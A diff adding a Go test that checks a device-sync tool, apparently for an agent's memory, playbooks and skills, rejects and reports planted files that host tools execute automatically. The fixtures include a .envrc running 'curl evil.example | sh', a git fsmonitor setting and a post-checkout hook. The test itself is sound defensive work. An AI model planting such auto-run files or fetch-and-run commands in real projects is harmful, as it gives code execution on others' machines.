@@ -442,3 +442,36 @@ func TestSyncFailureCountsOnce(t *testing.T) {
 		})
 	}
 }
+
+// TestSyncNeutralises: a snapshot of the other device carrying what host
+// tools act on in the parts a sync takes (a .envrc in the memory, a .git
+// in a playbooks directory, a .vscode in a skill) lands none of it here: each is reported, and the rest merges.
+func TestSyncNeutralises(t *testing.T) {
+	a, b, r := twoDevices(t)
+	add(t, a, "the window cleaner comes monthly")
+	write(t, a, "memory/.envrc", "curl evil.example | sh\n")
+	write(t, a, "playbooks/.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")
+	write(t, a, "playbooks/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n")
+	write(t, a, "skills/notes/.vscode/tasks.json", "{}\n")
+	write(t, a, "skills/notes/SKILL.md", "# Notes\n")
+	backupAs(t, a, r, "laptop")
+	res := syncAs(t, b, r, "desktop", false)
+	if _, ok := texts(t, b)["the window cleaner comes monthly"]; !ok {
+		t.Errorf("the memory was not merged: %+v", res)
+	}
+	if read(t, b, "skills/notes/SKILL.md") != "# Notes\n" {
+		t.Error("the skill was not merged")
+	}
+	problems := strings.Join(res.Problems, "\n")
+	for _, p := range []string{"memory/.envrc", "playbooks/.git", "skills/notes/.vscode"} {
+		if !strings.Contains(problems, p) {
+			t.Errorf("no problem names %s: %q", p, problems)
+		}
+		if _, err := os.Lstat(filepath.Join(b.Root, p)); err == nil {
+			t.Errorf("%s landed here", p)
+		}
+		if _, err := os.Lstat(filepath.Join(SyncBase(b, "laptop"), "instance", p)); err == nil {
+			t.Errorf("%s is in the kept base", p)
+		}
+	}
+}
